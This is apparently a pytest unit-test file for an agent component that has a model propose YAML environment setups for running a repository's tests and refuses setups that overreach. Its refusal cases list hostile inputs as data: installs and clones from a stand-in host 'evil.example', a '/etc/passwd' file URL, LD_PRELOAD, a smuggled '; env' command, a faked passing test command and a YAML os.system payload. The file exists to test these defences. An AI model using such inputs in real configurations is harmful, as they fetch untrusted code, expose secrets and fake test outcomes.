"""A model looks for the configuration with which base's tests run; what it proposes is bounded."""

from __future__ import annotations

import pytest

from agent.chat import Worst
from agent.domain import CheckItem, CheckReport, CheckResult, Layer, Status
from agent.editing import scouting
from agent.editing.scouting import Trials
from agent.environments.obstacles import Obstacle
from agent.errors import EnvironmentFailed
from agent.services import Services
from agent.testing import FakeModel, said
from tests.unit.editing import desks

FILES = {
    "package.json": "{}",
    ".npmrc": "",
    "app/tests/test_a.py": "",
    "app/tests/test_b.py": "",
}
SET_UP = "setup: [mkdir -p data]\nchecks: {tests: {args: [app/tests]}}"


def report(**outcomes: int) -> CheckReport:
    items = tuple(
        CheckItem(
            item_id=f"app/tests/test_a.py::{one}{n}", outcome=one, text="E   OSError: no data"
        )
        for one, count in outcomes.items()
        for n in range(count)
    )
    tests = CheckResult(name="tests", status=Status.FAILED, items=items, reason="it broke off")
    return CheckReport(side="base", commit="c", change_digest=None, results=(tests,))


def try_(text):
    return ("try_configuration", {"yaml": text})


@pytest.fixture
def prepared(tmp_path, home):
    return desks.repository(tmp_path, home, FILES)


@pytest.fixture
def scout(prepared, home):
    """Let a model propose; each proposal that is measured ends as one of the reports."""

    def begin(turns, reports, *, most=0, layers=(), worst=None):
        model = FakeModel(lambda request: turns.pop(0), worst=worst)
        job = desks.job(prepared, home, model)
        left = list(reports)

        def attempt(contract, name):
            job.step(f"environment{name}", _nothing)
            if left[0] is None:
                left.pop(0)
                raise EnvironmentFailed("no such package")
            environment = prepared.environment.model_copy(update={"layers": layers})
            update = {"contract": contract, "environment": environment}
            return prepared.model_copy(update=update), left.pop(0)

        trials = Trials(prepared, job.step, job.svc, most, attempt)
        found = scouting.scout(job, prepared, Obstacle(cause="No data."), trials)
        answers = [one.content for request in model.requests[1:]
                   for one in request.messages[-1].results]  # fmt: skip
        return found, answers, job

    return begin


def _nothing() -> str:
    return ""


def test_what_most_tests_pass_with_is_taken_and_what_it_leaves_out_is_named(scout):
    turns = [said(desks.bash("ls")), said(try_("env: {A: b}")), said(try_(SET_UP))]
    found, answers, job = scout(turns, [report(error=3), report(passed=3)], most=3)
    taken, before = found.found
    assert before == report(passed=3)
    assert taken.contract.config.setup == ("mkdir -p data",)
    assert taken.contract.config.checks.tests.args == ("app/tests",)
    assert "setup:" in taken.contract.scouted
    assert "app/tests/test_b.py" in taken.contract.scouted
    assert "passed 0" in answers[-1]
    assert "OSError: no data" in answers[-1]
    assert "environment try 2" in job.step._watcher.names
    assert (job.lent, job.reserved_seconds) == (None, 0.0)


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("checks: {tests: {args: [--deselect=app/tests/test_a.py]}}", "no path"),
        ("checks: {tests: {args: ['-papp.tests']}}", "no path"),
        ("python: {install: ['x @ https://evil.example/x.whl']}", "evil.example"),
        ("python: {install: ['x @ file:///etc/passwd']}", "addresses"),
        ("env: {A: 'http://ada:b@evil.example/'}", "evil.example"),
        ("setup: ['git clone ssh://evil.example/x']", "evil.example"),
        ("root: ../other", "repository"),
        ("django: {manage: /etc/manage.py}", "absolute"),
        ("python: {install: ['-r missing.txt']}", "no such file"),
        ("checks: {tests: {command: 'echo 5 passed'}}", "command"),
        ("checks: {tests: {runner: 'off', minutes: 600}}", "minutes"),
        ("scope: {protect: []}", "scope"),
        ("env: {AWS_SECRET_ACCESS_KEY: abc}", "secret"),
        ("env: {MERGEWRIGHT_MODEL: x}", "MERGEWRIGHT_MODEL"),
        ("env: {PYTEST_ADDOPTS: -x}", "PYTEST_ADDOPTS"),
        ("env: {LD_PRELOAD: x.so}", "LD_PRELOAD"),
        ("setup: [{run: npm ci, network: packages, files: [gone.json]}]", "network"),
        ("setup: [{run: npm ci, network: packages, files: [.npmrc]}]", "network"),
        ("setup: [{run: npm ci; env, network: packages, files: [package.json]}]", "network"),
        ("setup: [{run: npm ci --registry=x, network: packages, files: [package.json]}]", "network"),
        ("!!python/object/apply:os.system ['true']", ""),
    ],
)  # fmt: skip
def test_what_goes_beyond_a_set_up_is_refused_before_anything_is_built(prepared, home, text, why):
    svc: Services = desks.job(prepared, home, FakeModel(lambda _: said())).svc
    reading = scouting.read(text, prepared.contract, prepared.run, prepared.checkout, svc)
    assert reading.contract is None
    assert why in reading.refusal


@pytest.mark.parametrize(
    "text",
    [
        "env: {SECRET_KEY: test, DATABASE_URL: 'postgres://u:p@localhost:5432/db', PYTHONPATH: app}",
        "setup: [{run: npm ci --ignore-scripts, network: packages, files: [package.json]}]",
        "version: 1\nroot: app\nchecks: {tests: {args: [tests.test_a, ./tests/test_b.py]}}",
    ],
)
def test_what_a_set_up_needs_is_taken(prepared, home, text):
    svc = desks.job(prepared, home, FakeModel(lambda _: said())).svc
    reading = scouting.read(text, prepared.contract, prepared.run, prepared.checkout, svc)
    assert reading.refusal == ""


def test_fewer_tests_and_set_up_that_makes_tests_are_refused(scout, tmp_path):
    found, answers, _ = scout(
        [said(try_(SET_UP)), said(("decline", {"why": "LDAP is needed."}))],
        [report(passed=3)],
        most=4,
    )
    assert found.found is None
    assert "LDAP is needed." in found.why
    assert "3 tests" in answers[0]


def test_set_up_may_make_settings_and_nothing_that_decides_about_tests(scout, tmp_path):
    (tmp_path / "layer/tree/app").mkdir(parents=True)
    (tmp_path / "layer/tree/app/conftest.py").touch()
    found, answers, _ = scout(
        [said(try_(SET_UP)), said(("decline", {"why": ""}))],
        [report(passed=3)],
        layers=(Layer(folder=str(tmp_path / "layer")),),
    )
    assert found.found is None
    assert "app/conftest.py" in answers[0]


def test_it_ends_after_six_tries_and_what_ran_some_tests_is_the_best_of_them(scout):
    turns = [said(try_(f"env: {{A: a{number}}}")) for number in range(6)]
    some = report(passed=1, error=2)
    found, answers, _ = scout(turns, [None, some, report(passed=2, error=3), *[some] * 3])
    assert found.found[1] == report(passed=2, error=3)
    assert "no such package" in answers[0]
    assert turns == []


def test_it_ends_once_it_has_spent_its_quarter(scout, prepared, home):
    limits = desks.job(prepared, home, FakeModel(lambda _: said())).limits
    # A dollar cent each, and the next could cost as much as a quarter of the run.
    dear = Worst(tokens=10, usd=limits.usd / 4)
    found, _, job = scout([said(desks.bash())], [], worst=dear)
    assert found.found is None
    assert job.spent.calls == 1
    assert "spend" in found.why


def test_without_a_model_nobody_is_asked(prepared, home):
    job = desks.job(prepared, home, FakeModel(lambda _: pytest.fail("asked"), roles=()))
    trials = Trials(prepared, job.step, job.svc, 0, lambda *_: pytest.fail("tried"))
    assert scouting.scout(job, prepared, Obstacle(cause="x"), trials).found is None
